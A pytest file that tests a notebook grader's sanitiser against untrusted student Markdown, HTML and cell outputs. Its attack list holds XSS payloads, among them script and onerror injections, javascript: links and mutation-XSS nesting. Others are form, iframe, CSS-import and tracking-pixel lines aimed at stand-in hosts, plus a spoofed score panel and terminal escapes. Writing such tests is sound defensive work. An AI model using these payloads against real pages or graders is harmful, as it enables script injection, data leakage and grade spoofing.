"""What a stranger wrote is shown in somebody else's browser, terminal and spreadsheet: nothing of it may act there."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import nbformat
import pytest
from hypothesis import given
from hypothesis import strategies as st
from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath

from grader.intake.markup import clean_html
from grader.intake.sanitise import LINES, OUTPUT_CHARACTERS, clean_markdown, clean_outputs, one_line

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x](&#106;avascript:alert(1))",
    "![x](https://tracker.example/pixel.png)",
    "<img src='https://tracker.example/pixel.png'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<iframe src='https://evil.example'></iframe>",
    "<form action='https://evil.example'><input name=a></form>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "<javascript:alert(1)>",
    "<div class='panel nbgrader_cell' id='score'>Score: 100 / 100</div>",
    "![x](attachment:missing.png)",
    "[formgrader](evil.html)",
]
ALLOWED_SOURCES = re.compile(r"data:image/(png|jpeg|gif|webp);base64,")


class Page(HTMLParser):
    """Collects what could act."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in (
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "base",
            "meta",
            "link",
            "svg",
            "math",
            "video",
            "audio",
        ):
            self.bad.append(tag)
        for name, value in attrs:
            text = "".join((value or "").split()).lower()
            if name.startswith("on") or name in ("style", "id", "class", "srcdoc", "formaction"):
                self.bad.append(f"{tag} {name}")
            if name == "src" and not ALLOWED_SOURCES.match(text):
                self.bad.append(f"{tag} src {text}")
            if name == "href" and not text.startswith(("http://", "https://", "mailto:", "#")):
                self.bad.append(f"{tag} href {text}")


def acts(html: str) -> list[str]:
    page = Page()
    page.feed(html)
    page.close()
    return page.bad


def rendered(source: str) -> str:
    """A Markdown cell as formgrader renders it."""
    return MarkdownWithMath(renderer=IPythonRenderer(escape=False, exclude_anchor_links=True)).render(source)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_acts(attack: str) -> None:
    assert acts(clean_html(attack)) == []
    assert acts(rendered(clean_markdown(attack))) == []


@given(st.lists(st.sampled_from([*ATTACKS, "\n\n", "`", "$", "**", "> ", "- ", "    ", "<", "&lt;", "text"]), max_size=6))
def test_nothing_acts_in_any_mixture(pieces: list[str]) -> None:
    assert acts(rendered(clean_markdown("".join(pieces)))) == []


@pytest.mark.parametrize(
    "prose", ["The slope is $\\sigma'(z) < 0.25$.", "**Bold** and `code` and\n\n- a list", "2 < 3 and 5 > 4", "$$a_1 \\\\ b$$"]
)
def test_ordinary_prose_stays_as_it_is(prose: str) -> None:
    assert clean_markdown(prose) == prose


def test_links_and_tables_survive_cleaning() -> None:
    shown = rendered(clean_markdown("See [nbgrader](https://nbgrader.readthedocs.io).\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n$x<y$"))
    assert 'href="https://nbgrader.readthedocs.io"' in shown
    assert "<td>1</td>" in shown
    assert "$x&lt;y$" in shown


def clean_one(data: dict[str, Any], kind: str = "display_data") -> dict[str, Any]:
    (output,) = clean_outputs([{"output_type": kind, "data": data, "metadata": {"text/html": {"isolated": True}}}])
    assert "text/html" not in output.metadata
    return dict(output.data)


def test_a_picture_keeps_its_size_and_its_words() -> None:
    about = {"width": 350, "height": "1 onload=alert(1)", "alt": "the\nslope", "class": "x"}
    output = {"output_type": "display_data", "data": {"image/png": "iVBO"}, "metadata": {"image/png": about}}
    (cleaned,) = clean_outputs([output])
    assert cleaned.metadata == {"image/png": {"width": 350, "alt": "the slope"}}


def test_pictures_and_text_stay() -> None:
    assert clean_one({"image/png": "iVBO\nRw0=", "text/plain": "<Figure>"}) == {"image/png": "iVBORw0=", "text/plain": "<Figure>"}


def test_scripts_widgets_and_false_pictures_go() -> None:
    bundle = {
        "application/javascript": "alert(1)",
        "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
        "image/png": '"><script>alert(1)</script>',
        "text/html": "<b onclick=alert(1)>bold</b>",
    }
    assert clean_one(bundle) == {"text/html": "<b>bold</b>"}


def test_svg_is_shown_as_a_picture_that_cannot_act() -> None:
    html = clean_one({"image/svg+xml": "<svg onload=alert(1)/>"})["text/html"]
    assert html.startswith('<img alt="a figure" src="data:image/svg+xml;base64,')


def test_markdown_output_becomes_clean_html() -> None:
    assert acts(clean_one({"text/markdown": "[x](javascript:alert(1)) **b**"})["text/html"]) == []


def test_floods_are_cut() -> None:
    (stream,) = clean_outputs([{"output_type": "stream", "name": "stdout", "text": "x\n" * 10_000}])
    assert len(stream.text.split("\n")) == LINES
    outputs = clean_outputs([{"output_type": "stream", "name": "stdout", "text": "y" * (OUTPUT_CHARACTERS // 2)}] * 3)
    assert outputs[-1].text == "... Output truncated ...\n"
    assert len(outputs) == 2


def test_terminal_escapes_go_but_colours_stay() -> None:
    (stream,) = clean_outputs([{"output_type": "stream", "name": "stdout", "text": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J"}])
    assert stream.text == "\x1b[31mred\x1b[0m ]0;title [2J"
    assert one_line("a\x1b[31mb\n\x9b2Jc") == "ab 2Jc"


KINDS = st.sampled_from(["stream", "error", "display_data", "execute_result"])
VALUES = st.one_of(KINDS, st.text(), st.integers(), st.lists(st.text()), st.dictionaries(st.text(), st.text()))
KEYS = st.sampled_from(["output_type", "data", "text", "name", "traceback", "ename", "execution_count"])


@given(st.lists(st.dictionaries(KEYS, VALUES)))
def test_whatever_comes_is_valid_nbformat(outputs: list[dict[str, Any]]) -> None:
    cell = nbformat.v4.new_code_cell("x", outputs=clean_outputs(outputs))
    nbformat.validate(nbformat.v4.new_notebook(cells=[cell]))
